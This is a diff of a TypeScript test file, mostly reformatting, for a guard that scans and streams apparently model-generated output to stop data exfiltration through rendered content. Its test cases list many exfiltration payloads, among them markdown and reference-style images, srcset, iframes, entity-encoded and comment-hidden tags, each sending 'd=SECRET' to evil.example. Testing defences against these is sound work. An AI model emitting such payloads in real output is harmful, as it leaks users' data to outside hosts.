@@ -40,7 +40,11 @@ const show = (s: string) => JSON.stringify(s.length > 300 ? `${s.slice(0, 300)}â
 function assertSafe(input: string, g: Guard = guard): string {
   const whole = g.scanOutput(input).text;
   const v = violations(whole, ALLOWED);
-  assert.deepEqual(v, [], `rendered output reaches outside the allowlist\ninput:  ${show(input)}\noutput: ${show(whole)}`);
+  assert.deepEqual(
+    v,
+    [],
+    `rendered output reaches outside the allowlist\ninput:  ${show(input)}\noutput: ${show(whole)}`,
+  );
   return whole;
 }
 
@@ -50,22 +54,43 @@ describe('exfiltration: regressions', () => {
     ['alt text over 500 characters', `Look: ![${'x'.repeat(600)}](https://evil.example/p?d=SECRET) there`],
     ['URL over 1,000 characters', `![chart](https://evil.example/c?d=${'A'.repeat(1500)})`],
     ['nested brackets in the alt text', '![a [nested] label](https://evil.example/n?d=SECRET)'],
-    ['reference-style image, definition inside a block quote after use', 'Logo: ![logo][brand]\n\n> [brand]: https://evil.example/l.png?d=SECRET'],
-    ['reference-style image, definition with its destination on the next line', '![logo][brand]\n\n[brand]:\n  https://evil.example/l.png?d=SECRET'],
+    [
+      'reference-style image, definition inside a block quote after use',
+      'Logo: ![logo][brand]\n\n> [brand]: https://evil.example/l.png?d=SECRET',
+    ],
+    [
+      'reference-style image, definition with its destination on the next line',
+      '![logo][brand]\n\n[brand]:\n  https://evil.example/l.png?d=SECRET',
+    ],
     ['bare URL (linkify)', 'Your summary is ready at https://evil.example/s?d=SECRET â€” open it.'],
     ['img srcset', '<img srcset="https://evil.example/a.png?d=SECRET 1x, /b.png 2x">'],
     ['iframe', '<iframe src="https://evil.example/f?d=SECRET"></iframe>'],
     ['entity-encoded raw HTML URL', '<img src="&#104;ttps://evil.example/e?d=SECRET">'],
     ['line break inside an image label', '![a\nb](https://evil.example/lb?d=SECRET)'],
     ['unclosed img tag in an HTML block', '<div>\n<img src="https://evil.example/u?d=SECRET\n\nlater text'],
-    ['comment hiding a tag from a per-token view', '<!-- x\n\n<b title="-->"><img src=https://evil.example/c?d=SECRET>">'],
+    [
+      'comment hiding a tag from a per-token view',
+      '<!-- x\n\n<b title="-->"><img src=https://evil.example/c?d=SECRET>">',
+    ],
   ];
   // held by the old rules too; kept as coverage of the new stage
   const heldOnMain: [string, string][] = [
-    ['reference-style image, definition after use', 'Logo: ![logo][brand]\n\n[brand]: https://evil.example/l.png?d=SECRET'],
-    ['reference-style image, definition before use, other case', '[Brand]: https://evil.example/l.png?d=SECRET\n\n![logo][BRAND]'],
-    ['collapsed and shortcut reference images', '![brand][] and ![brand]\n\n[brand]: <https://evil.example/x?d=SECRET> "t"'],
-    ['data: image', '![p](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)'],
+    [
+      'reference-style image, definition after use',
+      'Logo: ![logo][brand]\n\n[brand]: https://evil.example/l.png?d=SECRET',
+    ],
+    [
+      'reference-style image, definition before use, other case',
+      '[Brand]: https://evil.example/l.png?d=SECRET\n\n![logo][BRAND]',
+    ],
+    [
+      'collapsed and shortcut reference images',
+      '![brand][] and ![brand]\n\n[brand]: <https://evil.example/x?d=SECRET> "t"',
+    ],
+    [
+      'data: image',
+      '![p](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)',
+    ],
     ['destination on the next line', '[click](\nhttps://evil.example/next?d=SECRET)'],
     ['image inside a list item indented as code elsewhere', '- item\n\n    ![x](https://evil.example/i?d=SECRET)'],
     ['HTML block with markdown inside (html off parses it)', '<div>\n![x](https://evil.example/h?d=SECRET)\n</div>'],
@@ -73,12 +98,20 @@ describe('exfiltration: regressions', () => {
   const cases = [...failedOnMain, ...heldOnMain];
   for (const [name, input] of cases) {
     it(name, () => {
-      assert.notDeepEqual(violations(input, ALLOWED), [], 'the input itself renders something remote (the test can fail)');
+      assert.notDeepEqual(
+        violations(input, ALLOWED),
+        [],
+        'the input itself renders something remote (the test can fail)',
+      );
       const whole = assertSafe(input);
       assert.ok(!whole.includes('evil.example/') || !violations(whole, ALLOWED).length);
       const r = rng(input.length);
-      for (let k = 0; k < 5; k++) assert.equal(streamed(guard, input, cutsOf(input.length, r)).text, whole, `split #${k}`);
-      assert.ok(guard.scanOutput(input).findings.some((f) => f.kind === 'exfiltration'), 'reported');
+      for (let k = 0; k < 5; k++)
+        assert.equal(streamed(guard, input, cutsOf(input.length, r)).text, whole, `split #${k}`);
+      assert.ok(
+        guard.scanOutput(input).findings.some((f) => f.kind === 'exfiltration'),
+        'reported',
+      );
     });
   }
 
@@ -97,7 +130,13 @@ describe('exfiltration: regressions', () => {
     const text = 'see ![x](https://evil.example/a.png) and https://evil.example/b';
     const flag = compileGuard(cfg('flag')).scanOutput(text);
     assert.equal(flag.text, text);
-    assert.deepEqual(flag.findings.map((f) => [f.detector, f.action]), [['markdown-image', 'flagged'], ['bare-url', 'flagged']]);
+    assert.deepEqual(
+      flag.findings.map((f) => [f.detector, f.action]),
+      [
+        ['markdown-image', 'flagged'],
+        ['bare-url', 'flagged'],
+      ],
+    );
     assert.equal(flag.blocked, undefined);
     const block = compileGuard(cfg('block')).scanOutput(text);
     assert.deepEqual(block.blocked, { check: 'exfiltration', detector: 'markdown-image' });
@@ -133,7 +172,11 @@ describe('exfiltration: the holdback', () => {
   it('a piece longer than MAX_PIECE is cut and neutralised, never released raw; streamed equals whole', () => {
     const body = Array.from({ length: 2000 }, (_, i) => `[l${i}](https://evil.example/${i}) word`).join('\n');
     const fence = `\`\`\`\n${'x'.repeat(100)}\n`.repeat(1) + `${'code line\n'.repeat(8000)}`;
-    for (const input of [body, fence + '\n\n![x](https://evil.example/after-fence)', `${'a'.repeat(3 * MAX_PIECE)} ![x](https://evil.example/long-line)`]) {
+    for (const input of [
+      body,
+      fence + '\n\n![x](https://evil.example/after-fence)',
+      `${'a'.repeat(3 * MAX_PIECE)} ![x](https://evil.example/long-line)`,
+    ]) {
       const s = guard.streamOutput();
       let out = '';
       let maxHeld = 0;
@@ -163,9 +206,14 @@ describe('exfiltration: fuzz (seeded; rendered output judged by markdown-it + pa
       const res = guard.scanOutput(input);
       const after = violations(res.text, ALLOWED);
       assert.deepEqual(after, [], `doc #${i}\ninput:  ${show(input)}\noutput: ${show(res.text)}`);
-      if (before.length > 0) assert.ok(res.findings.some((f) => f.kind === 'exfiltration'), `doc #${i}: rendered remote content but no finding (block mode would not block)\n${show(input)}`);
+      if (before.length > 0)
+        assert.ok(
+          res.findings.some((f) => f.kind === 'exfiltration'),
+          `doc #${i}: rendered remote content but no finding (block mode would not block)\n${show(input)}`,
+        );
       for (let k = 0; k < 3; k++) {
-        const cuts = k === 0 && i % 10 === 0 ? Array.from({ length: input.length - 1 }, (_, j) => j + 1) : cutsOf(input.length, r);
+        const cuts =
+          k === 0 && i % 10 === 0 ? Array.from({ length: input.length - 1 }, (_, j) => j + 1) : cutsOf(input.length, r);
         assert.equal(streamed(guard, input, cuts).text, res.text, `doc #${i} split #${k}\ninput: ${show(input)}`);
       }
     }
